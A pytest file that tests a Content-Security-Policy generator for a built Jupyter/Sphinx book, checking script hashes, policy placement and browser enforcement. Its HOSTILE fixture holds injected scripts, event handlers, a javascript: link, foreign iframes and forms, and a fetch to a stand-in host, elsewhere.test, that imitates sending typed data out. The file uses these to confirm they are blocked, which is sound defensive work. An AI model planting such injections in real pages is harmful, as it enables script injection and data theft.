"""What a page may load and run: computed from the page, and kept by a browser."""

import pytest
from test_book_browser import Reader
from test_book_build import CONFIG, NOTEBOOKS, PAGES

from content_security import BASE, policy, secured

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8" /><title>A page</title>
<script>window.own = "first";</script>
<script type="application/json">{"data": "<b>"}</script>
<script src="own.js"></script></head>
<body><button onclick="window.printed = 1 &amp;&amp; 2">Print</button></body></html>"""
WIDGETS = '<script src="../_static/widgets/embed-amd.js?v=1"></script>'


def hashes(allowed):
    return [value for value in allowed["script-src"] if value.startswith("'sha256-")]


def test_a_page_may_run_what_stands_in_it_and_load_its_own_site():
    allowed = policy(PAGE)
    assert allowed["default-src"] == ["'self'"]
    assert allowed["object-src"] == allowed["base-uri"] == ["'none'"]
    assert len(hashes(allowed)) == 2  # one script, one button; data is not run
    # printf 'window.own = "first";' | openssl dgst -sha256 -binary | base64
    assert "'sha256-uX2MD5MuOPBa1VRkX2ipAdz4c5W6I77x3H12K/dNW8s='" in allowed["script-src"]
    # the same of: window.printed = 1 && 2
    assert "'sha256-YxxOWg/P/LG21wCgMHbS36/55tjX2O6WoUQQD8bNPp0='" in allowed["script-src"]
    rest = set(allowed["script-src"]) - set(hashes(allowed))
    assert rest == {"'self'", "'unsafe-hashes'"}
    assert policy("<p>No script</p>") == BASE


def test_only_pages_with_widgets_may_make_code_of_text():
    assert not {"'unsafe-eval'", "blob:"} & set(policy(PAGE)["script-src"])
    assert {"'unsafe-eval'", "blob:"} <= set(policy(PAGE + WIDGETS)["script-src"])
    assert "widgets/embed-amd.js" in CONFIG["sphinx"]["config"]["nb_ipywidgets_js"]


def test_the_policy_stands_behind_the_character_set_and_is_written_once():
    page = secured(secured(PAGE))
    assert page.count("Content-Security-Policy") == 1
    assert page.index('charset="utf-8"') < page.index("Content-Security-Policy") < 200
    assert page.index("Content-Security-Policy") < page.index("<script")


def test_each_built_page_has_its_policy(html):
    pages = [f"{page}.html" for page in [*PAGES, "genindex", "search"]]
    for name in pages:
        text = (html / name).read_text("utf-8")
        assert secured(text) == text and "Content-Security-Policy" in text, name
    redirect = (html / "index.html").read_text("utf-8")  # goes on to the first page
    assert "http-equiv" in redirect and "<script" not in redirect


HOSTILE = """
<script>window.ran = "a script"</script>
<img src="own.png" onerror="window.ran = 'a handler'">
<a href="javascript:window.ran = 'a link'">link</a>
<script src="http://elsewhere.test/theirs.js"></script>
<iframe src="http://elsewhere.test/"></iframe>
<object data="http://elsewhere.test/"></object>
<form action="http://elsewhere.test/"><button id="send">Send</button></form>
<base href="http://elsewhere.test/"></body>"""


@pytest.mark.parametrize("widgets", ["", WIDGETS])
def test_a_page_runs_no_script_that_was_not_there_when_it_was_built(browser, widgets):
    asked = []

    def answer(route):
        asked.append(route.request.url)
        if route.request.url == "http://book.test/":
            page = secured(PAGE.replace("</body>", f"{widgets}</body>"))
            route.fulfill(body=page.replace("</body>", HOSTILE), content_type="text/html")
        else:
            route.fulfill(body="window.loaded = true", content_type="text/javascript")

    page = browser.new_page()
    page.route("**/*", answer)
    page.goto("http://book.test/")
    page.get_by_text("Print").click()
    page.get_by_text("link").click()
    page.evaluate("document.querySelector('#send').click()")
    page.evaluate("fetch('http://elsewhere.test/?what=was+typed').catch(() => 0)")
    assert page.evaluate("[window.own, window.printed, window.loaded]") == ["first", 2, True]
    assert page.evaluate("window.ran") is None
    assert not any("elsewhere" in address for address in asked)
    page.close()


@pytest.mark.parametrize("address", ["book/notation.html", f"{NOTEBOOKS[0]}.html"])
def test_a_page_opened_from_the_disk_keeps_its_policy_too(browser, html, address):
    reader = Reader(browser, f"{html.as_uri()}/", "light", 1280)
    reader.open(address)
    assert reader.faults == []
    reader.context.close()
